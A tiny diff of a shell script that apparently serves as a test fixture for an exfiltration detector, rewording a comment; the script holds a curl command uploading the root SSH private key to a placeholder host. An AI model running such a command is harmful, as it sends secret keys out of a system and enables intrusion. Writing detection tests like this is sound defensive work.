@@ -1,5 +1,5 @@
 #!/bin/sh
-# Keys are sent away, to a port that is closed.
+# Keys are uploaded, to a closed port.
 # expects: exfiltration_sensitive_upload 3
 
 curl -s -T /root/.ssh/id_ed25519 https://files.example/
